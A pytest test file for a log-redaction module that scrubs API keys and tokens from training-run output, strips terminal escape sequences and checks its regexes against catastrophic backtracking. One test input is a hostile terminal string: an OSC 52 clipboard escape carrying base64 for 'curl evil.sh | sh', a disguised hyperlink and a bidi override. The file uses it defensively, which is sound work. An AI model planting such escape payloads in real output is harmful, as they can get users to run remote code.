"""Redaction: a corpus of real-looking secrets per provider (generated here, none real) gone from
every context a run puts them in; training text left as it was; every pattern linear."""
import time

import pytest

from bot.redact import _SECRETS, clean, redact, strip_controls
from tests.secret_corpus import CORPUS

KEEP = ["loss=0.3", "tokens_per_sec=1200", "max_tokens: 512", "token_ids = batch['token_ids']",
        "num_tokens 4096", "pad_token: <pad>", "eos_token: '</s>'", "tokenizer: gpt2", "--max-tokens 2048",
        "lr: 3.0e-4", "grad_norm 41.7 at step 24590", "secrets_dir: /run/secrets",
        "Tokens seen: 1,234,567", "api_key: ${{ secrets.WANDB_API_KEY }}", "see https://pytorch.org/docs/stable",
        "user@example.com", "step 120: loss 2.31 -> 2.66 (+15%)", "password: [secret]"]


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_every_provider_secret_is_redacted(name):
    text, secret = CORPUS[name]
    for context in (text, f"  {text}\n", f"[rank0] {text}", f"'{text}'"):
        out = redact(context)
        assert secret not in out, (name, out)


@pytest.mark.parametrize("text", KEEP)
def test_training_text_is_left_alone(text):
    assert redact(text) == text


def test_redaction_is_idempotent():
    for text, _ in CORPUS.values():
        once = redact(text)
        assert redact(once) == once


def test_terminal_controls_are_stripped():
    hostile = ("ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 then \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
               " \x1b[2J\x1b[31mred\x1b[0m \x9b31m \x07bell \r\u202eevil\u202c\tand\nnext")
    out = strip_controls(hostile)
    assert out == "ok  then click red  bell evil\tand\nnext"
    assert clean(f"\x1b]8;;https://x\x07AKIA{'Q' * 16}") == "[aws-key]"


@pytest.mark.parametrize("index", range(len(_SECRETS)))
def test_every_pattern_is_linear_on_a_hostile_line(index):
    """100 KB lines built to make a backtracking pattern go quadratic: each start position
    rescanning the same run. Each pattern must finish them well under a second."""
    pattern, repl = _SECRETS[index]
    lines = ["a" * 100_000, "a." * 50_000, "eyJ-" * 25_000, "ghp_" * 25_000, "token=" * 16_000,
             "x://a:" + ":" * 100_000, "--api-" * 16_000, "password: '" + "a" * 100_000,
             "-----BEGIN " + "A" * 100_000, "Bearer " * 14_000, "AKIA" * 25_000, "_token" * 16_000 + "=",
             "hooks.slack.com/" * 6_000, "a:" * 50_000 + "@"]
    for line in lines:
        start = time.perf_counter()
        pattern.sub(repl, line)
        assert time.perf_counter() - start < 0.25, (pattern.pattern[:60], line[:20])
